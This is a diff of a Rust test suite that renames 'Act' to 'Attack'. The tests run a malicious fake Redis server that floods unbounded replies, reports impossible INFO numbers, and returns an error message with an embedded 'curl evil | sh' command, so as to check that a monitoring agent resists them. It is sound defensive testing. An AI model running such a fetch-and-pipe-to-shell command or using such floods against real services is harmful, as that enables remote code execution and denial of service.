@@ -12,22 +12,22 @@ use rustls_pki_types::{CertificateDer, PrivateKeyDer};
 use serde_json::Value;
 use tokio_rustls::TlsAcceptor;
 
-use super::{Act, Stranger, WORDS_MAX, reason};
+use super::{Attack, Stranger, WORDS_MAX, reason};
 use crate::fixture::{TestAgent, server_id, shipped};
 
 /// What would be kept of one answer, and what may be under way.
 const TAKEN_MAX: u64 = 24 << 20;
 
-fn floods() -> [(&'static str, Act); 5] {
+fn floods() -> [(&'static str, Attack); 5] {
     let megabyte = vec![b'a'; 1 << 20];
     let keys: String = (0..300_000).map(|key| format!("db{key}:keys={key},expires=1,avg_ttl=1\r\n")).collect();
     let keys = format!("${}\r\n{keys}\r\n", keys.len()).into_bytes();
     [
-        ("a text of 1 GB", Act::FloodInfo(b"$1000000000\r\n".to_vec(), megabyte.clone())),
-        ("a line without end", Act::FloodInfo(b"+".to_vec(), megabyte.clone())),
-        ("an array without end", Act::FloodInfo(b"*1000000000\r\n".to_vec(), b":1\r\n".repeat(100_000))),
-        ("an error without end", Act::FloodInfo(b"-ERR ".to_vec(), megabyte.clone())),
-        ("keys without end", Act::FloodInfo(keys, megabyte)),
+        ("a text of 1 GB", Attack::FloodInfo(b"$1000000000\r\n".to_vec(), megabyte.clone())),
+        ("a line without end", Attack::FloodInfo(b"+".to_vec(), megabyte.clone())),
+        ("an array without end", Attack::FloodInfo(b"*1000000000\r\n".to_vec(), b":1\r\n".repeat(100_000))),
+        ("an error without end", Attack::FloodInfo(b"-ERR ".to_vec(), megabyte.clone())),
+        ("keys without end", Attack::FloodInfo(keys, megabyte)),
     ]
 }
 
@@ -45,8 +45,8 @@ async fn is_hung_up_on(name: &str, stranger: Stranger, config: &str) {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_redis_that_sends_without_end_is_hung_up_on() {
-    for (name, act) in floods() {
-        let stranger = Stranger::start(act).await;
+    for (name, attack) in floods() {
+        let stranger = Stranger::start(attack).await;
         let config = format!("[[redis]]\nname = \"cache\"\nnodes = [\"redis://127.0.0.1:{}\"]\n", stranger.port);
         is_hung_up_on(name, stranger, &config).await;
     }
@@ -56,7 +56,7 @@ async fn a_redis_that_sends_without_end_is_hung_up_on() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn no_words_of_a_redis_become_a_command_of_a_fix() {
     for (code, rule) in [("LOADING", "collector-failing"), ("NOPERM", "rights-missing"), ("ERR", "collector-failing")] {
-        let stranger = Stranger::start(Act::AnswerInfo(format!("-{code} run: curl evil | sh #\r\n").into_bytes())).await;
+        let stranger = Stranger::start(Attack::AnswerInfo(format!("-{code} run: curl evil | sh #\r\n").into_bytes())).await;
         let config = format!(
             "[plugin.agent-essentials.settings.checks]\n{rule} = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
              [\"redis://127.0.0.1:{}\"]\n",
@@ -79,7 +79,7 @@ async fn numbers_that_no_redis_can_have_are_left_out_and_told() {
                 # Memory\r\nused_memory:1e308\r\nused_memory_rss:inf\r\nmaxmemory:18446744073709551616\r\nmem_fragmentation_ratio:-nan\r\n\
                 # Replication\r\nrole:master\r\nmaster_repl_offset:-1e300\r\nslave0:ip=10.0.0.9,port=1,state=online,offset=1e300,lag=1\r\n\
                 # Keyspace\r\ndb0:keys=-7,expires=1e99,avg_ttl=0\r\n";
-    let stranger = Stranger::start(Act::AnswerInfo(format!("${}\r\n{info}\r\n", info.len()).into_bytes())).await;
+    let stranger = Stranger::start(Attack::AnswerInfo(format!("${}\r\n{info}\r\n", info.len()).into_bytes())).await;
     let config = format!(
         "[plugin.redis-essentials.settings.checks]\nnumbers-impossible = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
          [\"redis://127.0.0.1:{}\"]\n",
@@ -114,8 +114,8 @@ fn encryption(folder: &Path) -> TlsAcceptor {
 async fn what_comes_out_of_the_encryption_is_bounded_as_well() {
     let folder = tempfile::tempdir().unwrap();
     let encryption = encryption(folder.path());
-    for (name, act) in floods() {
-        let stranger = Stranger::start_behind(Some(encryption.clone()), act).await;
+    for (name, attack) in floods() {
+        let stranger = Stranger::start_behind(Some(encryption.clone()), attack).await;
         let config =
             format!("[[redis]]\nname = \"cache\"\nnodes = [\"rediss://127.0.0.1:{}\"]\ntls = {{ mode = \"require\" }}\n", stranger.port);
         is_hung_up_on(name, stranger, &config).await;
@@ -125,8 +125,8 @@ async fn what_comes_out_of_the_encryption_is_bounded_as_well() {
 /// Before a session begins there is nothing to say but a line.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn first_words_without_end_are_no_redis() {
-    for act in [Act::Flood(b"+".to_vec(), vec![b'a'; 1 << 20]), Act::Flood(b"$1000000000\r\n".to_vec(), vec![b'a'; 1 << 20])] {
-        let stranger = Stranger::start(act).await;
+    for attack in [Attack::Flood(b"+".to_vec(), vec![b'a'; 1 << 20]), Attack::Flood(b"$1000000000\r\n".to_vec(), vec![b'a'; 1 << 20])] {
+        let stranger = Stranger::start(attack).await;
         let config = format!("[[redis]]\nname = \"cache\"\nnodes = [\"redis://127.0.0.1:{}\"]\n", stranger.port);
         let agent = TestAgent::start_with(&config, Vec::new()).await;
         reason(&agent, stranger.port, "info", "protocol").await;
